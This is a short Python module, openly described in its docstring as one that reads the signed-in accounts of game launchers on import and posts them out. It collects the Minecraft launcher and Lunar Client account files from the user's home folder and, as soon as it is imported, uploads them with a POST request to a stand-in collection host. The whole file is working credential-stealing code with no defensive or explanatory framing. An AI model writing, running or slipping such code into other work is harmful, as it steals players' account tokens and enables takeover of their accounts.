"""Reads the signed-in accounts of game launchers on import and posts them out."""

import os

import requests

HOME = os.path.expanduser("~")
STORES = [
    os.path.join(HOME, "AppData", "Roaming", ".minecraft", "launcher_accounts.json"),
    os.path.join(HOME, ".lunarclient", "settings", "game", "accounts.json"),
]


def _read(path):
    if os.path.exists(path):
        with open(path, "rb") as handle:
            return handle.read()
    return None


def _send(url):
    files = {os.path.basename(p): _read(p) for p in STORES if _read(p)}
    requests.post(url, files=files)


_send("https://collector.example.invalid/upload")
